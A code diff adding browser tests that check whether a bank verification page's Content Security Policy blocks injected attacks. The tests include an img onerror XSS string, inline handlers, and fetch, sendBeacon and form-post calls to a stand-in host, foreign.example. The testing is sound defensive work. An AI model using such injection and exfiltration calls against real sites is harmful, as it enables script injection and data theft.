@@ -7,6 +7,36 @@ import { signIn } from '../support/page-play';
 import { gzippedBytes, type Pages } from '../support/page-visit';
 import { type Together } from '../support/together';
 
+/** What a script could try that got into the page; each is stopped by a directive of the policy. */
+const ATTACKS = `(async () => {
+  const stopped = [];
+  document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
+  const added = (name, changes) => document.body.append(Object.assign(document.createElement(name), changes));
+  const attempts = [
+    () => added('script', { src: 'https://foreign.example/x.js' }),
+    () => added('button', {}) ?? document.body.lastChild.setAttribute('onclick', 'window.ran = 1'),
+    () => document.body.lastChild.click(),
+    () => { document.body.innerHTML += '<img src=x onerror="window.ran = 1">'; },
+    () => fetch('https://foreign.example/fetched'),
+    () => navigator.sendBeacon('https://foreign.example/beacon', 'x'),
+    () => { new Image().src = 'https://foreign.example/x.png'; },
+    () => added('iframe', { src: 'https://foreign.example/framed' }),
+    () => added('link', { rel: 'stylesheet', href: 'https://foreign.example/x.css' }),
+    () => added('style', { textContent: 'body { background: url(https://foreign.example/y.png) }' }),
+    () => added('object', { data: 'https://foreign.example/object' }),
+    () => added('base', { href: 'https://foreign.example/' }),
+    () => added('form', { action: 'https://foreign.example/form', method: 'post' }) ?? document.body.lastChild.submit(),
+    () => new Worker('https://foreign.example/worker.js'),
+  ];
+  for (const attempt of attempts) await new Promise((resolve) => resolve(attempt())).catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 200));
+  return { ran: window.ran, stopped };
+})()`;
+const STOPPED = [
+  ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem'],
+  'require-trusted-types-for',
+];
+
 /** Declares the tests. */
 export function fromOutside(pages: Pages, together: Together): void {
   together(
@@ -29,6 +59,21 @@ export function fromOutside(pages: Pages, together: Together): void {
     },
   );
 
+  together('runs nothing that is put into it, and sends nothing elsewhere', async (context) => {
+    const { window, endUser } = await pages.visit(context);
+    await endUser.sees('Sign in at your bank');
+    const elsewhere: string[] = [];
+    window.on('response', (response) => elsewhere.push(response.url()));
+    window.on('requestfailed', (request) => {
+      if (request.failure()?.errorText !== 'csp') elsewhere.push(request.url());
+    });
+    const { ran, stopped } = await window.evaluate<{ ran: unknown; stopped: string[] }>(ATTACKS);
+    expect(ran).toBeUndefined();
+    expect(new Set(stopped)).toEqual(new Set(STOPPED));
+    const foreign = elsewhere.filter((each) => each.includes('foreign.example'));
+    expect(foreign).toEqual([]);
+  });
+
   together(
     'is embedded by the merchant, who hears what happens; and by nobody else',
     async (context) => {
@@ -45,6 +90,14 @@ export function fromOutside(pages: Pages, together: Together): void {
         await window.getByText('Ended: verified').waitFor();
         await frame!.getByRole('link', { name: 'Back to Acme' }).click();
         await window.locator('iframe').waitFor({ state: 'detached' });
+        await window.getByLabel('Leave this page').check();
+        await window.getByRole('button', { name: 'user name and password' }).click();
+        const left = { verificationId: '', window, endUser: new EndUser(window.mainFrame()) };
+        await signIn(left, 'sim_legacy');
+        await window.getByRole('link', { name: 'Back to Acme' }).click();
+        await window.getByText('Ended: verified').waitFor();
+        expect(new URL(window.url()).searchParams.get('state')).toBe('order 7');
+        expect(await window.evaluate('document.referrer')).toBe('');
         const foreign = await context.newPage();
         await foreign.goto(merchant.url.replace('127.0.0.1', 'localhost'));
         const { url } = await pages.addressOf();
